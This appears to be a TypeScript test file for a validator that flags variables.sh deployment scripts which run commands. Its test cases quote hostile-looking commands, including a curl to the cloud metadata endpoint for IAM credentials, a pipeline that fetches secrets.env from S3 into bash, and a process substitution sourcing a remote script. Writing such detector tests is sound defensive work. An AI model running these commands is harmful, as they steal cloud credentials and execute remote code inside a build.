import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { checkVariablesScriptCode } from '../../../shared/domain/build-files/variables-script-code';

const FIXTURES = join(dirname(fileURLToPath(import.meta.url)), '../../fixtures/build-files');
const FILE = 'environments/prod/variables.sh';

async function where(text: string): Promise<string[]> {
  return (await checkVariablesScriptCode(FILE, text)).map((d) => `${d.code}@${d.line}:${d.column}`);
}

describe('Function: checkVariablesScriptCode', () => {
  it('accepts assignments, export, declare and readonly, with comments and quotes', async () => {
    // Prepare
    const text = '#!/bin/bash\n# the SPA version\nexport CODE_GIT_BRANCH=v1.2.3\nREGION="eu-west-1"; export REGION\ndeclare -x A=1\nreadonly B=\'x y\'\nC=${REGION:-eu-west-3} D=$((1 + 2))\n';

    // Act
    const found = await where(text);

    // Assess
    expect(found).toEqual([]);
  });

  it('warns about every statement of a hostile variables.sh that runs code, at its line', async () => {
    // Prepare
    const text = readFileSync(join(FIXTURES, 'broken/variables.sh'), 'utf8');

    // Act
    const found = await checkVariablesScriptCode(FILE, text);

    // Assess
    expect(found.map((d) => `${d.code}@${d.line}:${d.column}`)).toEqual([
      'variables-script-runs-code@3:1',
      'variables-script-runs-code@4:1',
      'variables-script-runs-code@5:1',
      'variables-script-runs-code@6:1',
    ]);
    expect(found[0]?.message).toContain("runs the command substitution '$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)'");
    expect(found[0]?.message).toContain('will run inside the deployment build, with its credentials');
    expect(found[1]?.message).toContain("runs the pipeline 'aws s3 cp s3://example-bucket/secrets.env - | bash'");
    expect(found[2]?.message).toContain("runs the command 'echo' and redirects");
  });

  it.each([
    ['backquotes', 'export A=`id -u`', 'runs the command substitution'],
    ['a substitution inside a default', 'A=${B:-$(whoami)}', 'runs the command substitution'],
    ['a process substitution', 'source <(curl -s https://example.com)', 'runs the command substitution'],
    ['a command', 'aws sts get-caller-identity', "runs the command 'aws'"],
    ['source', '. ./secrets.sh', "runs the command '.'"],
    ['a list', 'cd /tmp && export A=1', 'runs the list of commands'],
    ['a function', 'f() { export A=1; }', 'runs a compound command'],
    ['a subshell', '(export A=1)', 'runs a compound command'],
    ['a background command', 'sleep 100 &', 'in the background'],
    ['an assignment for a command', 'A=1 make deploy', "runs the command 'make'"],
    ['set', 'set -a', "runs the command 'set'"],
  ])('warns about %s', async (_, text, expected) => {
    // Act
    const found = await checkVariablesScriptCode(FILE, `${text}\n`);

    // Assess
    expect(found).toEqual([expect.objectContaining({ code: 'variables-script-runs-code', line: 1, column: 1, message: expect.stringContaining(expected) })]);
  });

  it('leaves a file that does not parse to the pin check (variables-syntax-error)', async () => {
    // Act
    const found = await where('export A="unterminated\n');

    // Assess
    expect(found).toEqual([]);
  });

  it('reports at most 20 statements of a file full of commands', async () => {
    // Act
    const found = await where('echo hi\n'.repeat(100));

    // Assess
    expect(found).toHaveLength(20);
  });

  it('never throws on any text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ maxLength: 120 }), async (text) => Array.isArray(await checkVariablesScriptCode(FILE, text))),
      { numRuns: 25 },
    );
  });
});
